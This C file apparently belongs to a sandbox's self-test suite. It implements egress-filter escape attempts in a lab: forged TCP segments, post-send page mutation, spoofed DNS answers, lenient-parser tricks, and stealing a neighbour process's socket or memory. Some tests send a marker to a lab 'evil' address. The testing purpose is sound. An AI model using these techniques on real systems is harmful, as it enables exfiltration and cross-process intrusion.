/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * helped.c - ways out that somebody helps with: a server that reads late or in its own
 * way, a friend who forges segments, another link, a look-up or a process of somebody else on this
 * host. As in attacks.c, which has the table and the rules.
 */
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "selftest.h"

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_open 434
#define SYS_pidfd_getfd 438
#endif

#define FRIEND_MS 3000
#define FORGE_TIMES 3 /* a friend's segments may meet others on another CPU */
#define ASTRAY_MS 60  /* an answer to this socket comes at once, or not at all */

static const char ours[] = "one.test", theirs[] = "two.test";

/* ---- friends at the far side ---------------------------------------------------------------- */

/* A datagram socket to one, or what sp_attack_broken() says. */
static int friend_open(struct sp_attack *a)
{
	struct sockaddr_storage to;
	int r = sp_resolve(AF_INET, "good.test"), fd;
	socklen_t len;

	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	sp_lab_address(AF_INET, SP_AT_GOOD, SP_UDP_PORT, &to, &len);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, len))
		return sp_attack_broken(a, "socket to a friend", -errno);
	return fd;
}

/* Asks, and waits until it is done. 0, or what sp_attack_broken() says. */
static int friend_ask(struct sp_attack *a, int fd, const struct sp_ask *ask)
{
	struct pollfd readable = {.fd = fd, .events = POLLIN};
	struct sp_ask reply;

	if (send(fd, ask, sizeof(*ask), 0) != (ssize_t)sizeof(*ask))
		return sp_attack_broken(a, "question to a friend", -errno);
	if (poll(&readable, 1, FRIEND_MS) <= 0)
		return sp_attack_broken(a, "question to a friend", -ETIMEDOUT);
	if (recv(fd, &reply, sizeof(reply), 0) != (ssize_t)sizeof(reply))
		return sp_attack_broken(a, "question to a friend", -errno);
	return 0;
}

static int connect_named(struct sp_attack *a, uint16_t port)
{
	int r = sp_resolve(a->technique->family, ours);

	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	r = sp_tcp_connect(a->technique->family, SP_AT_SHARED, port);
	return r < 0 ? sp_attack_broken(a, "connection to an allowed host", r) : r;
}

/* One record with a ClientHello. */
static size_t put_hello(const char *name, const char *marker, uint8_t *buf)
{
	const struct sp_hello hello = {.names = {name}};
	uint8_t message[1024];
	size_t cut, len = sp_hello_build(&hello, marker, message, &cut);

	return sp_record_build(message, len, 0, buf);
}

/* In place of the marker, where it must not be seen. */
static const char nothing[SP_MARKER_LEN + 1] = "xxxxxxxxxxxxxxxx";

/* ---- A12: the interface --------------------------------------------------------------------- */

/* IP_PKTINFO and its like beside the data: by this interface, from this address. */
struct way_out {
	unsigned int ifindex;
	const struct sockaddr_storage *from; /* NULL: whichever */
};

static int send_by(int fd, const struct sockaddr_storage *to, socklen_t to_len, int family,
		   const struct way_out *by, const void *data, size_t len)
{
	union {
		char bytes[CMSG_SPACE(sizeof(struct in6_pktinfo))];
		struct cmsghdr align;
	} control = {0};
	struct iovec piece = {.iov_base = (void *)(uintptr_t)data, .iov_len = len};
	struct msghdr message = {.msg_name = (void *)(uintptr_t)to,
				 .msg_namelen = to_len,
				 .msg_iov = &piece,
				 .msg_iovlen = 1,
				 .msg_control = control.bytes};
	struct cmsghdr *head = &control.align;

	if (family == AF_INET6) {
		struct in6_pktinfo info = {.ipi6_ifindex = by->ifindex};

		if (by->from)
			info.ipi6_addr = ((const struct sockaddr_in6 *)by->from)->sin6_addr;
		*head = (struct cmsghdr){CMSG_LEN(sizeof(info)), IPPROTO_IPV6, IPV6_PKTINFO};
		memcpy(CMSG_DATA(head), &info, sizeof(info));
		message.msg_controllen = CMSG_SPACE(sizeof(info));
	} else {
		struct in_pktinfo info = {.ipi_ifindex = (int)by->ifindex};

		if (by->from)
			info.ipi_spec_dst = ((const struct sockaddr_in *)by->from)->sin_addr;
		*head = (struct cmsghdr){CMSG_LEN(sizeof(info)), IPPROTO_IP, IP_PKTINFO};
		memcpy(CMSG_DATA(head), &info, sizeof(info));
		message.msg_controllen = CMSG_SPACE(sizeof(info));
	}
	return sendmsg(fd, &message, 0) < 0 ? -errno : 0;
}

static void loopback(int family, uint16_t port, uint8_t last, struct sockaddr_storage *ret,
		     socklen_t *ret_len)
{
	/* the lab's forms of addresses, with another address in them */
	sp_lab_address(family, SP_AT_NEAR, port, ret, ret_len);
	if (family == AF_INET) {
		((struct sockaddr_in *)ret)->sin_addr.s_addr = htonl(0x7f000000u | last);
	} else if (family == SP_MAPPED) {
		uint32_t address = htonl(0x7f000000u | last);

		memcpy(&((struct sockaddr_in6 *)ret)->sin6_addr.s6_addr[12], &address, 4);
	} else {
		((struct sockaddr_in6 *)ret)->sin6_addr = in6addr_loopback;
	}
}

/* To a listener of one's own on loopback, which is allowed, but by the wire. */
int sp_attack_loopback_wire(struct sp_attack *a)
{
	struct way_out by = {.ifindex = if_nametoindex("eth0")};
	int family = a->technique->family, listener, fd;
	struct sockaddr_storage to;
	struct pollfd heard = {.events = POLLIN};
	char data[8];
	socklen_t len;

	loopback(family, 0, 1, &to, &len);
	listener = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (listener < 0 || fd < 0 || bind(listener, (struct sockaddr *)&to, len) ||
	    getsockname(listener, (struct sockaddr *)&to, &len))
		return sp_attack_broken(a, "listener of its own", -errno);
	heard.fd = listener;
	if (sendto(fd, "inside", 6, 0, (struct sockaddr *)&to, len) < 0 ||
	    poll(&heard, 1, FRIEND_MS) <= 0 || recv(listener, data, sizeof(data), 0) < 0)
		return sp_attack_broken(a, "datagram to a listener of its own", -errno);
	return send_by(fd, &to, len, family, &by, a->try.marker, SP_MARKER_LEN);
}

/* What is allowed, by a link that no route names for it. Way: 0: a datagram, 1: a query. */
int sp_attack_other_link(struct sp_attack *a)
{
	struct way_out by = {.ifindex = if_nametoindex("eth1")};
	int family = a->technique->family, fd, r;
	struct sockaddr_storage to;
	uint8_t query[300];
	char name[100];
	socklen_t len;

	r = sp_resolve(family, "good.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	sp_lab_address(family, a->technique->way ? SP_AT_RESOLVER : SP_AT_GOOD,
		       a->technique->way ? 53 : SP_UDP_PORT, &to, &len);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	if (!a->technique->way)
		return send_by(fd, &to, len, family, &by, a->try.marker, SP_MARKER_LEN);
	snprintf(name, sizeof(name), "%s.wild.test", a->try.marker);
	return send_by(fd, &to, len, family, &by, query, sp_dns_question(query, 7, name, 1));
}

/* ---- A13: pages that change ----------------------------------------------------------------- */

enum { BY_SENDFILE, BY_SPLICE, BY_VMSPLICE };

static int hand_over(int fd, int memory, const char *page, size_t len, int call)
{
	struct iovec piece = {.iov_base = (void *)(uintptr_t)page, .iov_len = len};
	off_t offset = 0;
	int fds[2];

	if (call == BY_SENDFILE)
		return sendfile(fd, memory, &offset, len) < 0 ? -errno : 0;
	if (pipe2(fds, O_CLOEXEC))
		return -errno;
	if (call == BY_SPLICE ? splice(memory, &offset, fds[1], NULL, len, 0) < 0
			      : vmsplice(fds[1], &piece, 1, 0) < 0)
		return -errno;
	return splice(fds[0], NULL, fd, NULL, len, 0) < 0 ? -errno : 0;
}

/* A page of a file with this in it; both sides of it, or -errno (never 0). */
static int make_page(const void *data, size_t len, char **ret_page)
{
	int fd = memfd_create("page", MFD_CLOEXEC);
	char *page;

	if (fd < 0 || ftruncate(fd, 4096))
		return errno ? -errno : -EIO;
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (page == MAP_FAILED)
		return -errno;
	memcpy(page, data, len);
	*ret_page = page;
	return fd;
}

/* What is allowed, and of the same length what is not. */
static size_t page_words(const struct sp_attack *a, int kind, uint8_t before[2048],
			 uint8_t after[2048])
{
	static const char head[] = "GET / HTTP/1.1\r\nHost: %s\r\nX: %s\r\n\r\n";
	size_t at = kind == SP_PAGE_DNS_TCP ? 2 : 0, len;
	char name[100];

	switch (kind) {
	case SP_PAGE_TLS:
		put_hello(ours, nothing, before);
		return put_hello(theirs, a->try.marker, after);
	case SP_PAGE_HTTP:
		snprintf((char *)before, 2048, head, ours, nothing);
		return (size_t)snprintf((char *)after, 2048, head, theirs, a->try.marker);
	default:
		/* 19 and 7 bytes against 16 and 10 */
		sp_dns_question(before + at, 7, "aaaaaaaaaaaaaaaaaaa.wild.test", 1);
		snprintf(name, sizeof(name), "%s.nowhere.test", a->try.marker);
		len = sp_dns_question(after + at, 7, name, 1);
		if (at) {
			before[0] = after[0] = 0;
			before[1] = after[1] = (uint8_t)len;
		}
		return len + at;
	}
}

static int page_socket(struct sp_attack *a, int kind)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd;

	if (kind == SP_PAGE_TLS || kind == SP_PAGE_HTTP)
		return connect_named(a, kind == SP_PAGE_TLS ? 443 : 80);
	if (kind == SP_PAGE_DNS_TCP) {
		fd = sp_tcp_connect(a->technique->family, SP_AT_RESOLVER, 53);
		return fd < 0 ? sp_attack_broken(a, "connection to the resolver", fd) : fd;
	}
	sp_lab_address(a->technique->family, SP_AT_RESOLVER, 53, &to, &len);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, len))
		return sp_attack_broken(a, "socket to the resolver", -errno);
	return fd;
}

/*
 * Does a datagram hold the page itself? Kernels and families differ: then what is changed after the
 * call is seen by who reads it. Tried on loopback.
 */
static bool datagrams_hold_pages(int family, int call)
{
	struct pollfd heard = {.events = POLLIN};
	struct sockaddr_storage to;
	char *page = NULL, byte = 'b';
	bool hold = false;
	int fd, memory;
	socklen_t len;

	loopback(family, 0, 1, &to, &len);
	heard.fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	memory = make_page("before", 6, &page);
	if (heard.fd >= 0 && fd >= 0 && memory >= 0 && page &&
	    !bind(heard.fd, (struct sockaddr *)&to, len) &&
	    !getsockname(heard.fd, (struct sockaddr *)&to, &len) &&
	    !connect(fd, (struct sockaddr *)&to, len) && !hand_over(fd, memory, page, 6, call)) {
		page[0] = 'a';
		hold = poll(&heard, 1, ASTRAY_MS) > 0 && recv(heard.fd, &byte, 1, 0) == 1 &&
		       byte == 'a';
	}
	if (page)
		munmap(page, 4096);
	if (memory >= 0)
		close(memory);
	close(fd);
	close(heard.fd);
	return hold;
}

/*
 * A page is handed over when it says what is allowed, and says something else when the server
 * reads it. That server is a friend, and waits until the page has changed: no race.
 */
int sp_attack_page(struct sp_attack *a)
{
	const struct sp_ask hold = {.magic = SP_ASK_MAGIC, .what = SP_ASK_HOLD};
	const struct sp_ask go_on = {.magic = SP_ASK_MAGIC, .what = SP_ASK_NOTHING};
	int kind = a->technique->way / SP_PAGE_CALLS, call = a->technique->way % SP_PAGE_CALLS;
	int fd = page_socket(a, kind), friend, memory, r, broken;
	uint8_t before[2048], after[2048];
	char *page = NULL;
	size_t len;

	if (fd < 0)
		return fd;
	if (kind == SP_PAGE_DNS && !a->try.inside &&
	    !datagrams_hold_pages(a->technique->family, call))
		return sp_attack_na(a, "this kernel copies what is handed to a datagram socket");
	len = page_words(a, kind, before, after);
	memory = make_page(before, len, &page);
	if (memory < 0 || !page)
		return sp_attack_broken(a, "a page", memory);
	friend = friend_open(a);
	if (friend < 0)
		return friend;
	broken = friend_ask(a, friend, &hold);
	if (broken)
		return broken;
	r = hand_over(fd, memory, page, len, call);
	if (!r)
		memcpy(page, after, len);
	broken = friend_ask(a, friend, &go_on);
	return broken ? broken : r ? r : sp_reset_wait(a, fd);
}

/* What programs do: the body of a request by sendfile(); by send() where that is refused. */
int sp_attack_sendfile(struct sp_attack *a)
{
	static const char head[] =
		"POST / HTTP/1.1\r\nHost: one.test\r\nContent-Length: 16\r\n\r\n";
	int fd = connect_named(a, 80), memory, r;
	char *page = NULL;

	if (fd < 0)
		return fd;
	r = sp_send_all(fd, head, sizeof(head) - 1);
	if (r)
		return sp_attack_broken(a, "head of a request to an allowed host", r);
	memory = make_page(a->try.marker, SP_MARKER_LEN, &page);
	if (memory < 0)
		return sp_attack_broken(a, "a page", memory);
	r = hand_over(fd, memory, page, SP_MARKER_LEN, BY_SENDFILE);
	return r == -EINVAL ? sp_send_all(fd, a->try.marker, SP_MARKER_LEN) : r;
}

/* ---- A15: an answer that goes astray -------------------------------------------------------- */

/*
 * A denied query is answered in the resolver's name. This one claims to be of an address and port
 * where somebody else waits for that resolver. Way: 0: asked from another address; 1: from any.
 */
int sp_attack_astray(struct sp_attack *a)
{
	int family = a->technique->family, fd, on = 1, r;
	uint16_t port = family == AF_INET6 ? a->try.asker6 : a->try.asker4;
	struct sockaddr_storage own, as, to;
	struct way_out by = {.from = &as};
	struct pollfd heard = {.events = POLLIN};
	socklen_t own_len, len;
	uint8_t query[300];
	char name[100];

	loopback(family, port, 2, &own, &own_len);
	if (a->technique->way && family == AF_INET)
		((struct sockaddr_in *)&own)->sin_addr.s_addr = htonl(INADDR_ANY);
	sp_lab_address(family, SP_AT_NEAR, 0, &as, &len);
	sp_lab_address(family, SP_AT_RESOLVER, 53, &to, &len);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)))
		return sp_attack_broken(a, "a socket that shares its port", -errno);
	if (bind(fd, (struct sockaddr *)&own, own_len)) {
		snprintf(a->note, sizeof(a->note), "to share a port: %s", strerror(errno));
		return a->technique->way ? -EACCES : SP_TRY_BROKEN;
	}
	snprintf(name, sizeof(name), "%s.nowhere.test", a->try.marker);
	/* of an IPv6 socket, IPv6's message in either form */
	r = send_by(fd, &to, len, family == AF_INET ? AF_INET : AF_INET6, &by, query,
		    sp_dns_question(query, 7, name, 1));
	heard.fd = fd;
	if (!r && a->try.inside)
		(void)poll(&heard, 1, ASTRAY_MS);
	return r;
}

/* ---- D13: segments that TCP does not accept ------------------------------------------------- */

/*
 * The server agrees to nothing. A friend says in its name that it does, in segments that TCP here
 * rejects, and then comes what would be in order if it had. Way: SP_ASK_AGREED, SP_ASK_HELLO.
 */
int sp_attack_forged(struct sp_attack *a)
{
	static const char upgrade[] = "GET / HTTP/1.1\r\nHost: one.test\r\nConnection: Upgrade\r\n"
				      "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n";
	bool tls = a->technique->way == SP_ASK_HELLO;
	struct sp_ask ask = {.magic = SP_ASK_MAGIC,
			     .what = (uint16_t)a->technique->way,
			     .family = (uint16_t)a->technique->family,
			     .server_port = htons(tls ? 443 : 80)};
	struct sockaddr_in6 own = {0}; /* the port is where IPv4 has it */
	socklen_t own_len = sizeof(own);
	uint8_t buf[2048];
	int fd = connect_named(a, tls ? 443 : 80), friend, r;

	if (fd < 0)
		return fd;
	if (getsockname(fd, (struct sockaddr *)&own, &own_len))
		return sp_attack_broken(a, "getsockname", -errno);
	ask.client_port = own.sin6_port;
	r = tls ? sp_send_all(fd, buf, put_hello(ours, nothing, buf))
		: sp_send_all(fd, upgrade, sizeof(upgrade) - 1);
	if (r)
		return sp_attack_broken(a, "first words to an allowed host", r);
	friend = friend_open(a);
	if (friend < 0)
		return friend;
	for (int i = 0; i < FORGE_TIMES; i++) {
		r = friend_ask(a, friend, &ask);
		if (r)
			return r;
	}
	if (tls)
		r = sp_send_all(fd, buf, put_hello(theirs, a->try.marker, buf));
	else
		r = sp_send_all(
			fd, buf,
			(size_t)snprintf((char *)buf, sizeof(buf),
					 "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n",
					 a->try.marker));
	return r ? r : sp_reset_wait(a, fd);
}

/* ---- D14: what a lenient server reads ------------------------------------------------------- */

enum { HELLO_OURS = 1, HELLO_THEIRS, HOST_THEIRS, MARKER };

/* What stands before a hello or the lines of a head, and is read over by some servers. */
static const struct {
	uint16_t port;
	uint8_t then;
	uint8_t len; /* 0: text */
	const char *text;
} lenient[] = {
	[SP_LENIENT_ALERT] = {443, HELLO_THEIRS, 7, "\x15\x03\x01\x00\x02\x01\x5a"},
	[SP_LENIENT_ALERT_OTHER] = {SP_OTHER_PORT, HELLO_THEIRS, 7, "\x15\x03\x01\x00\x02\x01\x5a"},
	[SP_LENIENT_CCS] = {SP_OTHER_PORT, HELLO_THEIRS, 6, "\x14\x03\x01\x00\x01\x01"},
	[SP_LENIENT_PROXY_TLS] = {SP_OTHER_PORT, HELLO_THEIRS, 0,
				  "PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n"},
	[SP_LENIENT_PROXY] = {SP_OTHER_PORT, HOST_THEIRS, 0,
			      "PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\n"},
	[SP_LENIENT_METHOD] = {SP_OTHER_PORT, HOST_THEIRS, 0,
			       "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1\r\n"},
	[SP_LENIENT_CRLF] = {SP_OTHER_PORT, HOST_THEIRS, 0, "\r\n\r\nGET / HTTP/1.1\r\n"},
	[SP_LENIENT_TABS] = {SP_OTHER_PORT, HOST_THEIRS, 0, "GET\t/\tHTTP/1.1\r\n"},
	[SP_LENIENT_VERSION] = {SP_OTHER_PORT, HOST_THEIRS, 0, "GET /\r\n"},
	[SP_LENIENT_CONNECT] = {80, MARKER, 0,
				"CONNECT two.test:443 HTTP/1.1\r\nHost: one.test\r\nX: "},
	[SP_LENIENT_CONNECT_OTHER] = {SP_OTHER_PORT, MARKER, 0,
				      "CONNECT two.test:443 HTTP/1.1\r\n\r\n"},
	[SP_ALLOWED_ALERT] = {443, HELLO_OURS, 7, "\x15\x03\x01\x00\x02\x01\x5a"},
	[SP_ALLOWED_SSH] = {SP_OTHER_PORT, MARKER, 0, "SSH-2.0-OpenSSH_9.2p1 Debian-2 "},
};

static int send_lenient(struct sp_attack *a, int fd, int way)
{
	const char *text = lenient[way].text;
	size_t len = lenient[way].len ? lenient[way].len : strlen(text);
	uint8_t buf[2048];
	int r;

	memcpy(buf, text, len + 1);
	if (lenient[way].then == HELLO_OURS || lenient[way].then == HELLO_THEIRS)
		len += put_hello(lenient[way].then == HELLO_OURS ? ours : theirs, a->try.marker,
				 buf + len);
	else if (lenient[way].then == HOST_THEIRS)
		len += (size_t)snprintf((char *)buf + len, 200, "Host: two.test\r\nX: %s\r\n\r\n",
					a->try.marker);
	else
		len += (size_t)snprintf((char *)buf + len, 200, "%s\r\n\r\n", a->try.marker);
	r = sp_send_all(fd, buf, len);
	return r ? r : sp_reset_wait(a, fd);
}

int sp_attack_lenient(struct sp_attack *a)
{
	int fd = connect_named(a, lenient[a->technique->way].port);

	return fd < 0 ? fd : send_lenient(a, fd, a->technique->way);
}

/* A server that is no proxy says 200 to CONNECT all the same, and reads the next request. */
int sp_attack_tunnel(struct sp_attack *a)
{
	static const char tunnel[] = "CONNECT one.test:443 HTTP/1.1\r\nHost: one.test:443\r\n\r\n";
	int fd = connect_named(a, SP_WEB_PORT), r;
	struct pollfd readable = {.fd = fd, .events = POLLIN};
	char answer[200];

	if (fd < 0)
		return fd;
	r = sp_send_all(fd, tunnel, sizeof(tunnel) - 1);
	if (!r && (poll(&readable, 1, FRIEND_MS) <= 0 || recv(fd, answer, sizeof(answer), 0) <= 0))
		r = -ETIMEDOUT;
	if (r)
		return sp_attack_broken(a, "CONNECT to an allowed name", r);
	r = sp_send_all(fd, answer,
			(size_t)snprintf(answer, sizeof(answer),
					 "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n",
					 a->try.marker));
	return r ? r : sp_reset_wait(a, fd);
}

/* ---- B11 to B13: processes outside, of a user that the command is or can become -------------- */

/* `nobody` is that user. Root takes it on, where it may. */
static void become(uid_t uid)
{
	setfsgid(uid);
	setfsuid(uid);
}

/* O_PATH of what is under the root directory as the neighbour sees it. */
int sp_neighbour_root(const struct sp_attack *a)
{
	char path[40];
	int fd, r;

	snprintf(path, sizeof(path), "/proc/%d/root", a->try.neighbour);
	become(SP_NEIGHBOUR);
	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	r = fd < 0 ? -errno : fd;
	become(geteuid());
	return r;
}

/* Out of the cgroup by the file system as the neighbour sees it. */
int sp_attack_leave_by_neighbour(struct sp_attack *a)
{
	int fd = sp_neighbour_root(a), procs, r = fd < 0 ? fd : 0;
	struct sockaddr_storage to;
	socklen_t len;

	if (!r) {
		procs = openat(fd, a->try.procs + 1, O_WRONLY | O_CLOEXEC);
		r = procs < 0 || write(procs, "0", 1) < 0 ? -errno : 0;
	}
	if (r)
		snprintf(a->note, sizeof(a->note), "the move: %s", strerror(-r));
	sp_lab_address(AF_INET, SP_AT_EVIL, (uint16_t)(SP_TRY_PORT + a->try.id), &to, &len);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	return sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, len) < 0 ? -errno
											    : 0;
}

int sp_attack_neighbour_socket(struct sp_attack *a)
{
	int pidfd, fd, error;
	struct sockaddr_storage to;
	socklen_t len;

	become(SP_NEIGHBOUR);
	pidfd = (int)syscall(SYS_pidfd_open, a->try.neighbour, 0);
	fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, a->try.socket, 0);
	error = errno;
	become(geteuid());
	if (fd < 0)
		return sp_attack_traced(a, -error);
	sp_lab_address(AF_INET, SP_AT_EVIL, (uint16_t)(SP_TRY_PORT + a->try.id), &to, &len);
	return sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, len) < 0 ? -errno
											    : 0;
}

static int neighbour_memory(const struct sp_attack *a)
{
	struct iovec to, from = {.iov_base = (void *)(uintptr_t)a->try.memory, .iov_len = 1};
	char byte;

	to = (struct iovec){.iov_base = &byte, .iov_len = 1};
	return process_vm_readv(a->try.neighbour, &to, 1, &from, 1, 0) < 0 ? -errno : 0;
}

static int neighbour_mem_file(const struct sp_attack *a)
{
	char path[40], byte;
	int fd, r = 0;

	snprintf(path, sizeof(path), "/proc/%d/mem", a->try.neighbour);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0 || pread(fd, &byte, 1, (off_t)a->try.memory) != 1)
		r = -errno;
	if (fd >= 0)
		close(fd);
	return r;
}

static int neighbour_trace(const struct sp_attack *a)
{
	/* it ends with this process, which lets the other go on */
	return ptrace(PTRACE_SEIZE, a->try.neighbour, NULL, NULL) ? -errno : 0;
}

/* Calls that need no wire, each as the neighbour's user. */
int sp_attack_neighbour(struct sp_attack *a)
{
	struct stat st;
	int fd, r = 0;

	switch (a->technique->way) {
	case SP_NEIGHBOUR_PINS:
		fd = sp_neighbour_root(a);
		if (fd < 0)
			return fd;
		if (!fstatat(fd, "sys/fs/bpf/sallyport", &st, 0))
			return 0;
		return a->try.inside ? -errno
				     : sp_attack_na(a, "the programs are pinned elsewhere");
	case SP_NEIGHBOUR_ROOT:
		fd = sp_neighbour_root(a);
		return fd < 0 ? fd : fstatat(fd, "proc", &st, 0) ? -errno : 0;
	}
	become(SP_NEIGHBOUR);
	switch (a->technique->way) {
	case SP_NEIGHBOUR_MEMORY:
		r = sp_attack_traced(a, neighbour_memory(a));
		break;
	case SP_NEIGHBOUR_MEM_FILE:
		r = sp_attack_traced(a, neighbour_mem_file(a));
		break;
	case SP_NEIGHBOUR_TRACE:
		r = sp_attack_traced(a, neighbour_trace(a));
		break;
	case SP_NEIGHBOUR_SIGNAL: /* one that changes nothing */
		r = kill(a->try.neighbour, SIGCONT) ? -errno : 0;
		break;
	}
	become(geteuid());
	return r;
}
